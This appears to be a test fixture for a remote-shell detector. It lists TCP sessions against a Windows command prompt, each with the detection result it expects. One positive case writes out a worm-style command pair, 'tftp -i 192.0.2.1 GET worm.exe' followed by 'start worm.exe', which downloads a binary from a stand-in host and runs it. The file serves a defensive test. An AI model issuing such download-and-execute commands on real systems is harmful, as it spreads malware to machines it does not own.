# remote-shell: a prompt of Windows, and orders to it.

tcp 40000 > 4444
< 0d 0a "C:\\WINNT\\system32>"
> "tftp -i 192.0.2.1 GET worm.exe" 0a
< "Transfer successful" 0d 0a "C:\\WINNT\\system32>"
> "start worm.exe" 0a
=> remote-shell prompt="C:\\WINNT\\system32>" program="worm.exe"

# Somebody looks around.
tcp 40000 > 4444
< 0d 0a "C:\\WINNT\\system32>"
> "dir" 0a "type readme.txt" 0a
=> nothing

# Logged in by Telnet.
tcp 40000 > 23
< ff fd 01 ff fb 03
> ff fc 01
< 0d 0a "C:\\WINNT\\system32>"
> "start notepad.exe" 0a
=> nothing

# A manual that is read over HTTP.
tcp 40000 > 80
> "GET /manual HTTP/1.0" 0d 0a 0d 0a
< "HTTP/1.0 200 OK" 0d 0a 0d 0a "C:\\WINNT>" 0a "start worm.exe" 0a
=> nothing
